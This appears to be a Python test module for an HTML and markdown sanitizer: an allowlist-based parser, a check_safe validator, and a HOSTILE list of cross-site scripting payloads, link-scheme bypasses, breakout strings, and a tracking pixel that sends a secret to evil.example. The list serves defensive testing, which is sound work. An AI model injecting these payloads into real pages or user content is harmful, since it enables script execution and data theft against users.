"""What a browser would make of HTML: the elements and attributes that are really there."""

from html.parser import HTMLParser

SAFE_TAGS = frozenset(
    [
        "a",
        "b",
        "blockquote",
        "br",
        "code",
        "del",
        "details",
        "div",
        "em",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "s",
        "span",
        "strong",
        "summary",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ]
)
SAFE_ATTRIBUTES = frozenset({"class", "href", "open", "rel", "start", "style", "target", "title"})
VOID = frozenset({"br", "hr"})


class Page(HTMLParser):
    """Parses at once; `tags`, `attributes`, `text`, and `balanced`."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._open: list[str] = []
        self.balanced = True
        self.feed(html)
        self.close()
        self.balanced = self.balanced and not self._open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self.balanced = bool(self._open) and self._open.pop() == tag and self.balanced

    def handle_data(self, data: str) -> None:
        self.text += data

    @property
    def tags(self) -> set[str]:
        return {tag for tag, _ in self.elements}

    @property
    def attributes(self) -> set[str]:
        return {name for _, attrs in self.elements for name in attrs}

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.elements if name == tag]


def check_safe(html: str) -> Page:
    """Only elements and attributes that cannot run, load or submit; every link leads to the web; all elements closed."""
    page = Page(html)
    assert page.tags <= SAFE_TAGS, page.tags - SAFE_TAGS
    assert page.attributes <= SAFE_ATTRIBUTES, page.attributes - SAFE_ATTRIBUTES
    for link in page.of("a"):
        assert str(link["href"]).startswith(("http://", "https://", "mailto:"))
        assert "noopener" in str(link["rel"])
    for _, attrs in page.elements:
        assert "url(" not in str(attrs.get("style"))
    assert page.balanced
    return page


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</pre></div></details><iframe src=//evil.example>",
    '"><b onmouseover="alert(1)">x',
    "' onfocus='alert(1)' autofocus='",
    '<button data-commandlinker-command="terminal:create-new" data-commandlinker-args="{}">x</button>',
    "![pixel](https://evil.example/p.png?secret)",
    "![data](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x0A;script:alert(1))",
    "[click](data:text/html,<script>1</script>)",
    "[click](vbscript:x)",
    "[click](/lab/api/kernels)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[x](https://good.example "onclick=alert(1)")',
    "```html onload=alert(1)\n<script>1</script>\n```",
    '```"><script>1</script>\nx\n```',
    "<style>*{display:none}</style>",
    "<!-- --><form action=//evil.example><input>",
    "<a href='https://x' target=_self onclick=1>",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c",
    "&lt;script&gt;",
    "<math><mtext></table><mglyph><style><!--</style><img src onerror=1>",
    "$\\href{javascript:alert(1)}{x}$",
    "| a |\n|---|\n| <script>1</script> |",
]
